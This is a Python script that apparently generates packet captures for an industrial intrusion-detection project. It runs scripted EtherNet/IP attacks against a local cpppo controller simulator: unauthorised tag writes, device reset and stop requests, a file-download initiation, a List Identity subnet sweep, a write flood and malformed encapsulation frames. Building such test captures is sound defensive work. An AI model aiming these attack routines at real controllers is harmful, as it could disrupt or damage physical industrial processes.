"""Record EtherNet/IP attack captures: cpppo's simulated controller and a hostile client.

The victim is the cpppo EtherNet/IP simulator of :mod:`pcaps.record.enip`
(127.0.0.1:44818, same tags and Identity object), started fresh for every
capture. The attacker is an unknown host bound to source address
:data:`ATTACKER` (127.0.0.66); it talks through the real stacks where they
can send what it wants (cpppo's client for tag writes and List Identity,
pycomm3 for CIP services on the Identity and File objects) and, for the
malformed messages, writes raw bytes on a connection whose RegisterSession
the real stack made. Run from the repository root, as root::

    python -m pcaps.record.enip_attacks [--out-dir pcaps/enip] [--only NAME ...]

Every reply is checked, so a behaviour change in a stack makes the script
fail instead of silently producing other captures.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from pcaps.record.enip import (
    ENIP_PORT,
    HOST,
    PRODUCT_NAME,
    UnexpectedReply,
    cpppo_connector,
    cpppo_tags,
    expect,
    main,
)

#: Source address of the attacker.
ATTACKER = "127.0.0.66"
#: Hosts the List Identity sweep probes (only 127.0.0.1 runs a device).
SWEEP = tuple(f"127.0.0.{i}" for i in range(1, 21))
#: Writes in the write flood.
FLOOD_WRITES = 200


@contextmanager
def pycomm3_from(source: str) -> Iterator[Any]:
    """A pycomm3 CIPDriver whose TCP connection is bound to ``source``
    (pycomm3 has no option for it: its socket is bound before connecting)."""
    from pycomm3 import CIPDriver
    from pycomm3.socket_ import Socket

    original = Socket.connect

    def connect(self: Any, host: str, port: int) -> None:
        self.sock.bind((source, 0))
        original(self, host, port)

    Socket.connect = connect  # type: ignore[method-assign]
    try:
        with CIPDriver(HOST) as driver:
            if driver._sock.sock.getsockname()[0] != source:
                raise ConnectionError(f"pycomm3 not bound to {source}")
            yield driver
    finally:
        Socket.connect = original  # type: ignore[method-assign]


def cip_service(source: str, service: int, class_code: int, instance: int,
                data: bytes = b"") -> Any:
    """One unconnected CIP request from ``source``; the device's reply."""
    with pycomm3_from(source) as driver:
        return driver.generic_message(service=service, class_code=class_code,
                                      instance=instance, request_data=data, connected=False,
                                      name=f"service 0x{service:02x}")


# -- raw messages on a session the real stack registered -----------------------


def encapsulation(command: int, session: int, data: bytes, length: int | None = None) -> bytes:
    """An encapsulation header (``length`` defaults to the true one) and data."""
    size = len(data) if length is None else length
    return struct.pack("<HHII8sI", command, size, session, 0, b"icswatch", 0) + data


def send_rr_data(cip: bytes, item_length: int | None = None) -> bytes:
    """SendRRData command data: interface handle 0, timeout 10, CPF with a
    null address item and an unconnected data item holding ``cip``."""
    size = len(cip) if item_length is None else item_length
    return struct.pack("<IHHHHHH", 0, 10, 2, 0, 0, 0xB2, size) + cip


#: Get Attribute Single of the Identity object's product name.
GET_PRODUCT_NAME = bytes([0x0E, 0x03, 0x20, 0x01, 0x24, 0x01, 0x30, 0x07])


def raw_after_register(source: str, payload: Callable[[int], bytes], close_early: bool = False
                       ) -> bytes:
    """Let cpppo's client open a connection from ``source`` and register a
    session, then write ``payload(session)`` raw on it; return whatever the
    device answers before it closes (b"" when it just closes)."""
    from cpppo.server.enip import client

    with cpppo_connector(source) as conn:
        if conn.session is None:  # cpppo registers lazily on the first request
            conn.register()
            reply, _ = client.await_response(conn, timeout=3)
            conn.session = reply.enip.session_handle
        sock: socket.socket = conn.conn
        sock.sendall(payload(conn.session))
        if close_early:
            sock.shutdown(socket.SHUT_WR)
        sock.settimeout(1.0)
        try:
            answer = sock.recv(4096)
        except TimeoutError:
            answer = b""
        return answer


# -- scenarios ----------------------------------------------------------------


def scenario_unauthorised_write(_: Path) -> None:
    """Tag writes from an unknown host: SCADA[0-3], TEMP, SETPOINT[2], then
    read back."""
    results = cpppo_tags(["SCADA[0-3]=(INT)666,666,666,666", "TEMP=(REAL)99.9",
                          "SETPOINT[2]=(DINT)-1", "SCADA[0-3]", "SETPOINT[2]"],
                         source=ATTACKER)
    expect("SCADA after write", results[3], [666, 666, 666, 666])
    expect("SETPOINT after write", results[4], [-1])


def scenario_reset_device(_: Path) -> None:
    """Reset (0x05) of the Identity object, type 0 (power cycle) then type 1
    (factory defaults): the controller would restart. cpppo refuses the
    service with encapsulation status 0x08 each time."""
    for reset_type in (b"", b"\x01"):
        reply = cip_service(ATTACKER, 0x05, 0x01, 1, reset_type)
        if not reply.error:
            raise UnexpectedReply(f"reset {reset_type!r} was accepted: {reply}")


def scenario_stop_controller(_: Path) -> None:
    """Stop (0x07) of the Identity object: a mode change to program/idle.
    cpppo refuses it with encapsulation status 0x08."""
    reply = cip_service(ATTACKER, 0x07, 0x01, 1)
    if not reply.error:
        raise UnexpectedReply(f"stop was accepted: {reply}")


def scenario_file_download(_: Path) -> None:
    """Initiate Download (0x4C) on the File object (class 0x37), the first
    step of pushing a file (EDS, firmware, program) to the device, with a
    file size of 4096 bytes. cpppo does not have the object and refuses it."""
    reply = cip_service(ATTACKER, 0x4C, 0x37, 1, struct.pack("<IB", 4096, 1))
    if not reply.error:
        raise UnexpectedReply(f"file download was accepted: {reply}")


def scenario_list_identity_sweep(_: Path) -> None:
    """UDP List Identity from the attacker to 127.0.0.1-20, one after the
    other (about 0.05 s apart): reconnaissance of every EtherNet/IP device on
    a subnet. Only 127.0.0.1 answers."""
    from cpppo.server.enip import client

    answered = []
    for host in SWEEP:
        conn = client.connector(host=host, port=ENIP_PORT, timeout=1, udp=True,
                                source_address=ATTACKER)
        with conn:
            conn.list_identity()
            try:
                reply, _ = client.await_response(conn, timeout=0.05)
            except Exception:  # the port is closed: ICMP unreachable
                reply = None
            name = None if not reply else reply.get("enip.CIP.list_identity.CPF.item[0]."
                                       "identity_object.product_name")
            if name is not None:  # an unanswered probe ends in an empty reply
                expect(f"List Identity {host}", name, PRODUCT_NAME)
                answered.append(host)
    expect("hosts that answered the sweep", answered, [HOST])


def scenario_write_flood(_: Path) -> None:
    """200 Write Tag requests to SCADA[0..99] from the attacker, back to
    back on one session (about 60 per second from cpppo's client)."""
    operations = [f"SCADA[{i % 100}]=(INT){i}" for i in range(FLOOD_WRITES)]
    start = time.monotonic()
    cpppo_tags(operations, source=ATTACKER)
    elapsed = time.monotonic() - start
    # ICSW-ENIP-007 fires at 40 writes within a second: keep a margin.
    if elapsed > FLOOD_WRITES / 45:
        raise UnexpectedReply(f"flood too slow ({elapsed:.1f} s): the machine is busy, re-run")


def scenario_malformed(_: Path) -> None:
    """Raw messages after a real RegisterSession, one connection each:
    (a) unknown command 0x00FF with 4 bytes of data; (b) a SendRRData whose
    encapsulation length is 8 bytes short of the CPF sent; (c) a SendRRData
    whose CPF data item says 40 bytes and carries 8; (d) a header announcing
    100 bytes, 10 sent, then the attacker closes. cpppo drops the connection
    without a reply to (a), (b) and (d), and answers (c) as if the item
    length were right."""
    expect("unknown command", raw_after_register(
        ATTACKER, lambda s: encapsulation(0x00FF, s, b"\x01\x02\x03\x04")), b"")
    cpf = send_rr_data(GET_PRODUCT_NAME)
    expect("short encapsulation length", raw_after_register(
        ATTACKER, lambda s: encapsulation(0x006F, s, cpf, len(cpf) - 8)), b"")
    answer = raw_after_register(
        ATTACKER, lambda s: encapsulation(0x006F, s, send_rr_data(GET_PRODUCT_NAME, 40)))
    expect("CPF item length: answered anyway", PRODUCT_NAME.encode() in answer, True)
    expect("truncated message", raw_after_register(
        ATTACKER, lambda s: encapsulation(0x006F, s, cpf[:10], 100), close_early=True), b"")


SCENARIOS: dict[str, Callable[[Path], None]] = {
    "attack-unauthorised-write": scenario_unauthorised_write,
    "attack-reset-device": scenario_reset_device,
    "attack-stop-controller": scenario_stop_controller,
    "attack-file-download": scenario_file_download,
    "attack-list-identity-sweep": scenario_list_identity_sweep,
    "attack-write-flood": scenario_write_flood,
    "attack-malformed": scenario_malformed,
}


def attacks_main(argv: Sequence[str] | None = None) -> int:
    return main(argv, SCENARIOS, prog="pcaps.record.enip_attacks")


if __name__ == "__main__":
    sys.exit(attacks_main())
